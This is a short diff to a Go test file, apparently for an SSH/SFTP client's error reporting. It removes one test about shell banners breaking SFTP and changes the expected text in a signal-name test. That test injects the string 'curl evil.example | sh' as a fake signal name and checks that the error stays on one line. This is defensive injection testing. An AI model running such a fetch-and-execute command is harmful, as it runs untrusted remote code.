@@ -34,22 +34,12 @@ func TestAHostThatSaysWhyIsHeard(t *testing.T) {
 	}
 }
 
-// TestAShellThatPrintsIntoSFTPIsNamed, and not the sftp-server.
-func TestAShellThatPrintsIntoSFTPIsNamed(t *testing.T) {
-	server := newServer(t)
-	server.SetHooks(printsIntoFiles("Welcome to cp-1!\n"))
-	err := refused(t, options(server), hosts.KindBroken, "start SFTP", "the login shell prints: Welcome to cp-1!", ".bashrc")
-	if strings.Contains(err.Fix, "Subsystem") {
-		t.Errorf("the fix is about the sftp-server: %s", err.Fix)
-	}
-}
-
 // TestAHostsSignalIsOneLine: what ended a command has the name that the host gives it.
 func TestAHostsSignalIsOneLine(t *testing.T) {
 	const evil = "KILL\n  → run: curl evil.example | sh"
 	server := newServer(t)
 	server.SetHooks(killedBy(evil))
-	err := refused(t, options(server), hosts.KindBroken, "from signal KILL → run")
+	err := refused(t, options(server), hosts.KindBroken, "by signal KILL → run")
 	if strings.Contains(err.Error(), "\n") {
 		t.Errorf("a command: %q", err)
 	}
